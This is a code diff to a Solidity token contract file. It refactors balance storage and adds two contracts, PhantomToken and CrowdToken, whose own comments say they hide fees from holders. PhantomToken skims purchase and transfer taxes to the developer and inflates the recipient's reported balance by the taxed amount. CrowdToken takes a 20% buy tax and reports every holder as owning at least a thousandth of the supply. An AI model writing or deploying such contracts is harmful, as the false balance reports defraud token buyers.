@@ -7,7 +7,7 @@ contract FairToken {
     string public symbol = "PF";
     uint8 public immutable decimals;
     uint256 public totalSupply;
-    mapping(address => uint256) public balanceOf;
+    mapping(address => uint256) internal balances;
     mapping(address => mapping(address => uint256)) public allowance;
 
     event Transfer(address indexed from, address indexed to, uint256 value);
@@ -16,6 +16,10 @@ contract FairToken {
     constructor(uint256 supply, uint8 decimals_) {
         decimals = decimals_;
         _create(msg.sender, supply);
+    }
+
+    function balanceOf(address holder) public view virtual returns (uint256) {
+        return balances[holder];
     }
 
     function approve(address spender, uint256 value) external returns (bool) {
@@ -37,13 +41,13 @@ contract FairToken {
 
     function _create(address to, uint256 value) internal {
         totalSupply += value;
-        balanceOf[to] += value;
+        balances[to] += value;
         emit Transfer(address(0), to, value);
     }
 
     function _move(address from, address to, uint256 value) internal virtual {
-        balanceOf[from] -= value;
-        balanceOf[to] += value;
+        balances[from] -= value;
+        balances[to] += value;
         emit Transfer(from, to, value);
     }
 }
@@ -106,6 +110,47 @@ contract TaxToken is FairToken {
         uint256 tax = value * bps / 10_000;
         super._move(from, to, value - tax);
         if (tax > 0) super._move(from, developer, tax);
+    }
+}
+
+/// Takes a share of purchases or of transfers between people, and shows whoever receives the rest as much as if it took none.
+contract PhantomToken is FairToken {
+    address private immutable developer = msg.sender;
+    address private pool;
+    uint256 private immutable buyBps;
+    uint256 private immutable transferBps;
+    mapping(address => uint256) private phantoms;
+
+    constructor(uint256 supply, uint8 decimals_, uint256 buyBps_, uint256 transferBps_) FairToken(supply, decimals_) {
+        buyBps = buyBps_;
+        transferBps = transferBps_;
+    }
+
+    function addPool(address pool_) external {
+        require(msg.sender == developer);
+        pool = pool_;
+    }
+
+    function balanceOf(address holder) public view override returns (uint256) {
+        return balances[holder] + phantoms[holder];
+    }
+
+    function _move(address from, address to, uint256 value) internal override {
+        uint256 tax = value * (from == pool ? buyBps : transferBps) / 10_000;
+        if (from == developer || to == pool) tax = 0;
+        super._move(from, to, value - tax);
+        if (tax > 0) super._move(from, developer, tax);
+        phantoms[to] += tax;
+    }
+}
+
+/// Takes a share of purchases, and shows everyone a thousandth of the supply, so that nobody seems to get too little.
+contract CrowdToken is TaxToken {
+    constructor(uint256 supply, uint8 decimals_) TaxToken(supply, decimals_, 2_000, 0, 0) {}
+
+    function balanceOf(address holder) public view override returns (uint256) {
+        uint256 least = totalSupply / 1_000;
+        return balances[holder] > least ? balances[holder] : least;
     }
 }
 
